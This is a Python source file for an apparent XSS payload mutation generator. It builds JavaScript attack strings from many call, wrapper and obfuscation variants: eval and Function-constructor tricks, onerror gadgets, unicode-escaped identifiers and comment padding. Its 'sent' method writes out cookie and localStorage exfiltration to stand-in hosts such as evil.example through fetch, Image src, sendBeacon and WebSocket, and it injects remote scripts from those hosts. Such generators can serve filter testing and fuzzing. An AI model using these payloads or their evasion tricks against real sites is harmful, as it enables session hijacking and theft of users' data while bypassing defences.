"""Scripts that do what attackers show first (a box, a cookie sent away), put together from many ways of naming, calling and hiding."""

import re

from mutants_xss_strings import Strings

BOXES = ["alert", "alert", "alert", "confirm", "prompt", "print"]
GLOBALS = ["window", "self", "top", "parent", "frames", "globalThis", "this", "document.defaultView", "window.self", "top.window"]
TOKENS = re.compile(
    r"""'(?:\\.|[^'\\])*'|"(?:\\.|[^"\\])*"|`(?:\\.|[^`\\])*`|[A-Za-z_$][\w$]*|[0-9][\w.]*|=>|\?\.|\.\.\.|[|&=!<>+*-]+|\s+|.""",
    re.S,
)
KEYWORDS = set("if else for do while try catch switch case default var let const new throw typeof void delete in of function class".split())
KEYWORDS |= {"static", "return", "async", "await", "yield", "get", "break", "with", "import", "extends", "constructor", "this"}


class Script(Strings):
    """One maker of scripts; `used` says what was done to the one at hand."""

    def argument(self):
        return self.one(
            "1",
            "1",
            "document.cookie",
            "document.domain",
            "origin",
            "'xss'",
            '"x"',
            "`x`",
            "/x/",
            "location",
            "document.cookie",
            "1337",
            "",
            "{}",
            "[]",
            "name",
            "localStorage.token",
            "self.origin",
            "/xss/.source",
            "1e3",
            "!0",
            "[document.cookie]",
            "'a'+1",
            "(1)",
        )

    # Functions

    def reached(self, name):
        """An expression whose value is the global function."""
        if self.chance(0.4):
            return name
        self.used.append("reach")
        scope = self.one(*GLOBALS)
        return self.one(
            lambda: "%s.%s" % (scope, name),
            lambda: "%s[%s]" % (scope, self.string(name)),
            lambda: "%s[%s]" % (scope, self.string(name)),
            lambda: "%s?.%s" % (scope, name),
            lambda: "%s?.[%s]" % (scope, self.string(name)),
            lambda: "(%s)" % name,
            lambda: "(0,%s)" % name,
            lambda: "(1&&%s)" % name,
            lambda: "[%s][0]" % name,
            lambda: "({a:%s}).a" % name,
            lambda: "(x=>x)(%s)" % name,
            lambda: "(()=>%s)()" % name,
            lambda: "(null??%s)" % name,
            lambda: "(1?%s:0)" % name,
            lambda: "(a=%s)" % name,
            lambda: "Reflect.get(%s,%s)" % (scope, self.string(name)),
            lambda: "Function(%s)()" % self.string("return " + name),
            lambda: "eval(%s)" % self.string(name),
            lambda: "%s.bind(%s)" % (name, scope),
            lambda: "[%s].pop()" % name,
            lambda: "%s[%s]" % (self.one("[self]", "[top]") + "[0]", self.string(name)),
            lambda: "((((%s))))" % name,
            lambda: "Object.values({a:%s})[0]" % name,
            lambda: "new Map([[1,%s]]).get(1)" % name,
            lambda: "%s.valueOf().%s" % (self.one("window", "self"), name),
            lambda: "(b=>b.%s)(self)" % name,
            lambda: "(({%s:b})=>b)(self)" % name,
            lambda: "(function(){return this})().%s" % name,
        )()

    def called(self, name):
        """A statement that calls the global function with something."""
        f, a = self.reached(name), self.argument()
        if self.chance(0.45):
            return "%s(%s)" % (f, a)
        self.used.append("call")
        a = a or "1"
        return self.one(
            "%s`%s`" % (f, self.one("1", "", "x", "${document.cookie}", "${1}")),
            "%s?.(%s)" % (f, a),
            "%s.call(null,%s)" % (f, a),
            "%s.apply(null,[%s])" % (f, a),
            "%s.call`1`" % f,
            "Reflect.apply(%s,null,[%s])" % (f, a),
            "[%s].map(%s)" % (a, f),
            "[%s].find(%s)" % (a, f),
            "[%s].forEach(%s)" % (a, f),
            "[%s].some(%s)" % (a, f),
            "[%s].findIndex(%s)" % (a, f),
            "[%s,1].sort(%s)" % (a, f),
            "[%s,2].reduce(%s)" % (a, f),
            "[%s].flatMap(%s)" % (a, f),
            "Array.from([%s],%s)" % (a, f),
            "new Set([%s]).forEach(%s)" % (a, f),
            "JSON.parse('1',%s)" % f,
            "JSON.stringify(1,%s)" % f,
            "'x'.replace(/x/,%s)" % f,
            "'x'.replace('x',%s)" % f,
            "setTimeout(%s)" % f,
            "setTimeout(%s,0,%s)" % (f, a),
            "setInterval(%s,9)" % f,
            "requestAnimationFrame(%s)" % f,
            "queueMicrotask(%s)" % f,
            "Promise.resolve(%s).then(%s)" % (a, f),
            "Promise.reject(%s).catch(%s)" % (a, f),
            "onerror=%s;throw %s" % (f, a),
            "{onerror=%s}throw %s" % (f, a),
            "throw onerror=%s,%s" % (f, a),
            "window.onerror=%s;throw/1/" % f,
            "toString=%s;self+''" % f,
            "valueOf=%s;+self" % f,
            "({toString:%s})+''" % f,
            "({valueOf:%s})-0" % f,
            "''+{toString:%s}" % f,
            "[{toString:%s}]+''" % f,
            "({[Symbol.toPrimitive]:%s})+1" % f,
            "new Proxy({},{get:%s}).a" % f,
            "({get a(){%s(%s)}}).a" % (f, a),
            "({set a(x){%s(x)}}).a=%s" % (f, a),
            "a=%s,a(%s)" % (f, a),
            "a=%s;a(%s)" % (f, a),
            "var a=%s;a(%s)" % (f, a),
            "let{a=%s}={};a(%s)" % (f, a),
            "[a=%s]=[],a(%s)" % (f, a),
            "with(self)%s(%s)" % (f, a),
            "(x=>%s(x))(%s)" % (f, a),
            "(()=>{%s(%s)})()" % (f, a),
            "!function(){%s(%s)}()" % (f, a),
            "+function(){%s(%s)}()" % (f, a),
            "(function(){%s(%s)})()" % (f, a),
            "(async()=>%s(await %s))()" % (f, a),
            "[...function*(){yield %s(%s)}()]" % (f, a),
            "class a{static{%s(%s)}}" % (f, a),
            "class a{static b=%s(%s)}" % (f, a),
            "new class{constructor(){%s(%s)}}" % (f, a),
            "new function(){%s(%s)}" % (f, a),
            "((a=%s(%s))=>a)()" % (f, a),
            "`${%s(%s)}`" % (f, a),
            "Object.assign({},{get a(){%s(%s)}})" % (f, a),
            "for(a of[%s])%s(a)" % (a, f),
            "for(a in{b:%s(%s)});" % (a, f),
            "a:{%s(%s)}" % (f, a),
            "f=_=>%s(%s);f()" % (f, a),
            "x={a:%s};x.a(%s)" % (f, a),
            "Array.prototype.a=%s;[].a(%s)" % (f, a),
            "addEventListener('load',%s)" % f,
            "%s(%s,%s)" % (f, a, a),
            "%s(...[%s])" % (f, a),
        )

    def sent(self):
        """The cookie, or what else is worth something, to another place; or a script from there."""
        host = self.one("//evil.example", "https://evil.example", "http://203.0.113.9", "//203.0.113.9:8080",
            "\\\\\\\\evil.example", "https:\\\\evil.example")
        what = self.one("document.cookie", "document.cookie", "localStorage.token", "document['cookie']", "btoa(document.cookie)",
            "document.body.innerHTML", "document.cookie")
        url = self.one("'%s/?c='+%s", "`%s/?${%s}`", "\"%s/\"+%s", "'%s?'.concat(%s)", "['%s',%s].join('/')") % (host, what)
        code = "'%s/x.js'" % host
        self.used.append("sent")
        return self.one(
            "fetch(%s)" % url,
            "fetch(%s,{method:'POST',body:%s})" % (code, what),
            "new Image().src=%s" % url,
            "(new Image).src=%s" % url,
            "location=%s" % url,
            "location.href=%s" % url,
            "document.location=%s" % url,
            "location.assign(%s)" % url,
            "location.replace(%s)" % url,
            "self['location']=%s" % url,
            "navigator.sendBeacon(%s)" % url,
            "open(%s)" % url,
            "window.open(%s)" % url,
            "new WebSocket(%s)" % url,
            "new EventSource(%s)" % url,
            "x=new XMLHttpRequest();x.open('GET',%s);x.send()" % url,
            "with(new XMLHttpRequest)open('GET',%s),send()" % url,
            "import(%s)" % code,
            "document.body.appendChild(document.createElement('script')).src=%s" % code,
            "s=document.createElement('script');s.src=%s;document.head.append(s)" % code,
            "document.write('<script src=%s/x><\\/script>')" % host,
            "document.createElement('img').src=%s" % url,
            "document.body.innerHTML+='<img src=%s onerror=alert(1)>'" % host,
            "new Audio(%s)" % url,
        )

    def of_text(self, depth):
        """A script that runs a text."""
        self.used.append("text")
        inner = self.plain(depth + 1)
        s = self.string(inner)
        evaluate = self.one("eval", "eval", "(0,eval)", "window.eval", "self['eval']", "eval?.", "globalThis.eval",
            "top[%s]" % self.string("eval"))
        maker = self.one(
            "Function",
            "new Function",
            "[].constructor.constructor",
            "''.constructor.constructor",
            "(()=>{}).constructor",
            "[]['flat']['constructor']",
            "[].find.constructor",
            "Set.constructor",
            "(1).constructor.constructor",
            "alert.constructor",
            "window[%s]" % self.string("Function"),
            "[][%s][%s]" % (self.string("at"), self.string("constructor")),
            "/x/.constructor.constructor",
            "({}).constructor.constructor",
            "(function(){}).constructor",
            "Array['constructor']",
            "(class{}).constructor",
        )
        return self.one(
            "%s(%s)" % (evaluate, s),
            "%s(%s)" % (evaluate, s),
            "%s(%s)()" % (maker, s),
            "%s(%s)()" % (maker, s),
            "%s(%s)``" % (maker, s),
            "%s`a${%s}```" % (maker, s),
            "setTimeout(%s)" % s,
            "setTimeout(%s,0)" % s,
            "window.setTimeout(%s)" % s,
            "setInterval(%s,1e3)" % s,
            "location=%s" % self.string("javascript:" + inner),
            "location.href=%s" % self.string("javascript:" + inner),
            "location.assign(%s)" % self.string("javascript:" + inner),
            "open(%s)" % self.string("javascript:" + inner),
            "[%s].map(eval)" % s,
            "[%s].find(eval)" % s,
            "Reflect.construct(Function,[%s])()" % s,
            "Function.apply(null,[%s])()" % s,
            "eval.call(null,%s)" % s,
            "a=%s;eval(a)" % s,
            "onerror=eval;throw'=%s'" % inner.replace("'", "\\x27"),
            "(function*(){}).constructor(%s)().next()" % s,
            "(async()=>{}).constructor(%s)()" % s,
            "import(%s)" % self.string("data:text/javascript," + inner),
            "document.write(%s)" % self.string("<script>%s</script>" % inner),
            "document.write(%s)" % self.string("<img src=x onerror=%s>" % inner),
            "document.body.innerHTML=%s" % self.string("<img src=x onerror=%s>" % inner),
            "document.body.insertAdjacentHTML('beforeend',%s)" % self.string("<svg onload=%s>" % inner),
            "setTimeout`%s`" % inner.replace("(", "\\x28").replace(")", "\\x29").replace("`", "\\x60"),
            "document.createElement('script').text=%s" % s,
        )

    def wrapped(self, x):
        self.used.append("wrapper")
        return self.one(
            "if(1)%s",
            "{%s}",
            "1&&%s",
            "0||%s",
            "null??%s",
            "1?%s:0",
            "for(;;){%s;break}",
            "do{%s}while(0)",
            "try{%s}catch(e){}",
            "try{x.y}catch{%s}",
            "try{}finally{%s}",
            "switch(1){default:%s}",
            "a:%s",
            "void %s",
            "!%s",
            "~%s",
            "x=%s",
            "var x=%s",
            "[%s]",
            "(%s)",
            ";;%s",
            "1,%s",
            "0;%s",
            "typeof %s",
            "delete %s",
            "(()=>{%s})()",
            "if(0);else %s",
            "javascript:%s",
            "1-%s",
            "x=>x;%s",
            "/x/.test(%s)",
            "%s,1",
            "%s;1",
            "%s//",
            "%s<!--",
            "while(!0){%s;break}",
            "a=1;%s",
            "'use strict';%s",
            "await=0;%s",
            "`${%s}`",
            "{}%s",
            "http://x.example\n%s",
            "//\n%s",
            "/*x*/%s",
            "%s\n",
            "%s;x",
        ).replace("%s", x)

    def plain(self, depth=0):
        kind = self.dice.random()
        if kind < 0.15 and depth < 2:
            return self.of_text(depth)
        if kind < 0.27:
            return self.sent()
        return self.called(self.one(*BOXES))

    # Tokens

    def spelled(self, script):
        """Letters of names as escapes."""
        names = [m for m in TOKENS.finditer(script) if re.match(r"[A-Za-z_$]", m[0]) and m[0] not in KEYWORDS]
        if not names:
            return script
        self.used.append("names")
        found = self.dice.choice(names)
        letters = [self.one("\\u%04x", "\\u{%x}", "\\u{0%x}") % ord(c) if self.chance(0.4) else c for c in found[0]]
        return script[: found.start()] + "".join(letters) + script[found.end() :]

    def spaced(self, script):
        """Blanks and comments between tokens."""
        self.used.append("blanks")
        share = self.one(0.15, 0.4, 1)
        blank = self.one(" ", "\t", "\n", "/**/", "/*x*/", "\u00a0", "\ufeff", "\u2028", "\f", "\v", "//\n", "\r", "  ", "/*'*/",
            "\u3000", "/*\n*/")
        out = []
        for found in TOKENS.finditer(script):
            token = found[0]
            if out and self.chance(share) and not re.fullmatch(r"[\w$]+|`.*", token, re.S):
                out.append(blank)
            out.append(token)
        return "".join(out)

    def make(self):
        """(script, what was done to it)"""
        self.used = []
        script = self.plain()
        if self.chance(0.25):
            script = self.wrapped(script)
        if self.chance(0.12):
            script = self.spaced(script)
        if self.chance(0.12):
            script = self.spelled(script)
        return script, list(dict.fromkeys(self.used))
